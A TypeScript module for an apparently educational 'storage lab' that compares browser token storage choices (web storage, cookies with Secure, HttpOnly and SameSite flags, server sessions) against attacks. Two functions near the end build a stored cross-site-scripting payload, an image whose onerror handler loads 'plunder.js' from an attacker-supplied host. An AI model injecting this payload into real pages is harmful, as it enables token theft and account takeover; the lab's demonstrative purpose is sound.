import type { CitationId } from './citations'

/** Where a browser application keeps what opens the API, and with which protection: the rows of the storage lab. */
export const STORAGE_CHOICES = [
  inPage('memory', 'Memory', 'A variable of the page’s script.', 'rfc10017-8.4'),
  inPage('sessionStorage', 'sessionStorage', 'Kept for this tab.', 'rfc10017-8.5'),
  inPage('localStorage', 'localStorage', 'Kept for this origin, in every tab.', 'rfc10017-8.5'),
  cookie('cookie', 'Cookie without flags', 'The token, written by the page’s script.', []),
  cookie('cookie-secure', 'Cookie, Secure', 'Sent over HTTPS only (and to localhost).', ['Secure']),
  cookie('cookie-http-only', 'Cookie, HttpOnly', 'Out of the reach of scripts, set by the server.', ['HttpOnly']),
  cookie('cookie-none', 'Cookie, SameSite=None', 'Sent whoever asks; browsers want Secure with it.', [
    'SameSite=None',
    'Secure',
  ]),
  cookie('cookie-lax', 'Cookie, SameSite=Lax', 'From other sites only when a link is followed.', ['SameSite=Lax']),
  cookie('cookie-strict', 'Cookie, SameSite=Strict', 'Never sent when another site asks.', ['SameSite=Strict']),
  session('session', 'Session, token on the server', 'The HttpOnly cookie names a session, no defence against forms.', {
    attributes: ['HttpOnly', 'SameSite=None', 'Secure'],
    header: false,
    cites: ['rfc10017-6.1'],
  }),
  session('session-header', 'Session, header required', 'The same cookie; the server wants a header no form can set.', {
    attributes: ['HttpOnly', 'SameSite=None', 'Secure'],
    header: true,
    cites: ['rfc10017-6.1.3.3'],
  }),
  session('bff', 'Backend for frontend', 'Header required, and the cookie is SameSite=Strict.', {
    attributes: ['HttpOnly', 'SameSite=Strict', 'Secure'],
    header: true,
    cites: ['rfc10017-6.1', 'rfc10017-6.1.3.2'],
  }),
] as const satisfies readonly StorageChoice[]

export type StorageChoiceId = (typeof STORAGE_CHOICES)[number]['id']

export interface StorageChoice<Id extends string = string> {
  /** Part of URLs. */
  id: Id
  name: string
  /** One line for the table. */
  text: string
  /**
   * - `memory`, `sessionStorage`, `localStorage`: the page holds the token and calls the API itself
   * - `cookie`: the token is a cookie; the application's server takes it from there and calls the API
   * - `session`: the cookie names a session of the application's server, which keeps the token
   */
  keeps: 'memory' | 'sessionStorage' | 'localStorage' | 'cookie' | 'session'
  /** Attributes of the cookie, besides its path. */
  attributes: readonly string[]
  /** The application's server acts only on requests that carry `OWN_HEADER`. */
  header: boolean
  cites: readonly CitationId[]
}

/** The header by which the application's server knows its own page: a form of another site cannot set it. */
export const OWN_HEADER = 'x-photo-editor'

/** Below the base of the client applications. */
export const STORAGE_LAB_PATH = '/storage-lab'

/** How the titles of photos begin that an attack has put into somebody's drive. */
export const PLANTED = {
  script: 'Planted by a script',
  form: 'Planted by a form',
  link: 'Planted by a link',
  image: 'Planted by an image',
} as const

export type Way = keyof typeof PLANTED

/** What the page around the application may wish, because a person there pressed something. */
export type Wish = { do: 'sign-in'; session: string } | { do: 'reload' } | { do: 'look-again' } | { do: 'sign-out' }

/** What the application says about itself afterwards. */
export interface Told {
  after: 'load' | 'sign-in' | 'look-again' | 'add' | 'sign-out'
  state: 'signed-out' | 'photos' | 'problem'
  /** How many photos the drive has for the user; null where it was not asked or did not say. */
  photos: number | null
}

/** Finds a choice by its id. */
export function storageChoice(id: string): StorageChoice | null {
  return STORAGE_CHOICES.find((choice) => choice.id === id) ?? null
}

/** Does the page call the API itself, with the token in its hands? */
export function callsApiItself({ keeps }: Pick<StorageChoice, 'keeps'>): boolean {
  return keeps !== 'cookie' && keeps !== 'session'
}

/** The script of the injected markup below, alone: what a Content-Security-Policy has to name to let it run. */
export function injectedHandler(attacker: string): string {
  return `document.head.append(Object.assign(document.createElement('script'),{src:'${attacker}/plunder.js'}))`
}

/**
 * A comment that is no comment: the picture cannot be loaded, so its error handler runs and fetches the attacker's
 * script into the page it stands on (RFC 10017, section 5).
 */
export function injectedComment(attacker: string): string {
  return `<img alt="" src="" onerror="${injectedHandler(attacker)}">`
}

function inPage<Id extends 'memory' | 'sessionStorage' | 'localStorage'>(
  id: Id,
  name: string,
  text: string,
  cites: CitationId,
): StorageChoice<Id> {
  return { id, name, text, keeps: id, attributes: [], header: false, cites: [cites] }
}

function cookie<Id extends string>(
  id: Id,
  name: string,
  text: string,
  attributes: readonly string[],
): StorageChoice<Id> {
  return { id, name, text, keeps: 'cookie', attributes, header: false, cites: ['rfc10017-8.1'] }
}

function session<Id extends string>(
  id: Id,
  name: string,
  text: string,
  rest: Pick<StorageChoice, 'attributes' | 'header' | 'cites'>,
): StorageChoice<Id> {
  return { id, name, text, keeps: 'session', ...rest }
}
